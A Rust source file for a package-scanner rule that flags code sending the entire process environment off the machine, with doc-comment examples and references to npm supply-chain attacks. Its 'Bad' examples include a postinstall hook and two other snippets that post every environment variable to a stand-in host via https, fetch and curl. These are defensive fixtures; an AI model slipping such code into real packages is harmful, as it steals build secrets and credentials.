//! # The whole environment leaves the machine
//!
//! All variables of the environment, not one of them by name, reach a request, a look-up or a command that
//! sends.
//!
//! ## Why it matters
//!
//! On a build machine the environment is the list of its secrets. Every worm since 2025 and most small
//! thieves start with it.
//!
//! ## Known benign uses
//!
//! Crash reporters send single variables from a list. Programs that start others hand them the environment,
//! which is no finding. A command that a person starts merges its settings with the environment.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const https = require("https");
//! const body = Buffer.from(JSON.stringify(process.env)).toString("base64");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.end(body); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.mjs"}
//! == index.mjs
//! import { env } from "node:process";
//! const rows = Object.keys(env).map((name) => name + "=" + env[name]);
//! await fetch("https://collector.invalid/e?q=" + encodeURIComponent(rows.join(";"))); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { execSync } = require("child_process");
//! execSync(`curl -s -d '${JSON.stringify({ ...process.env })}' https://collector.invalid/`); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { spawn } = require("child_process");
//! const allowed = ["NODE_ENV", "LANG"];
//! exports.start = (file) => spawn("node", [file], { env: { ...process.env, COLOR: "1" } });
//! exports.report = (error, address) =>
//!   fetch(address, { method: "POST", body: JSON.stringify({ error, env: process.env.NODE_ENV, allowed }) });
//! ```
//!
//! ## References
//!
//! - Wiz: Shai-Hulud npm Supply Chain Attack (September 2025)
//! - Koi: PhantomRaven (October 2025)

use crate::prelude::*;

/// The whole environment leaves the machine.
pub struct EnvSentToNetwork;

impl Rule for EnvSentToNetwork {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "env-sent-to-network",
            title: "The whole environment leaves the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1082",
            covers: &["collect-env-dump", "exfil-http-post", "social-lure-project"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_project = facts.context().origin == Origin::Project;
        for flow in facts.flows(|source| *source == Source::Environment, Sink::leaves_machine) {
            let is_build = is_project && flow.trigger == Trigger::Build;
            if flow.trigger.runs_unasked() || is_build {
                found.flow(flow);
            }
        }
    }
}
